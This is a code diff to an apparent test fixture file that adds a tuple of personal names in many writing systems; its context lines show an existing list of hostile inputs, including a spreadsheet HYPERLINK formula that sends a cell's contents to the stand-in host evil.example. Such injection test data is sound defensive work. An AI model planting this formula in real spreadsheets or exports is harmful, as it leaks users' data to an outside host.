@@ -90,6 +90,16 @@ BOOK = LeadBook(
     (ANNA, IVAN, COMPANY_ONLY, CODE_ONLY, TRAINEE), (FAIR, OTHER_FAIR, PRACTICE), ORGANISATION
 )
 
+OF_ALL_SCRIPTS = (
+    "Иванов",
+    "Батбаяр Өлзий",
+    "Muñoz Ibáñez",
+    "Jürgen Groß",
+    "محمد العلي",
+    "李小龙",
+    "👩🏽‍🔧 Ada",
+)
+"""Names as people bear them."""
 HOSTILE = (
     "=1+1",
     '=HYPERLINK("http://evil.example?x="&A1,"click")',
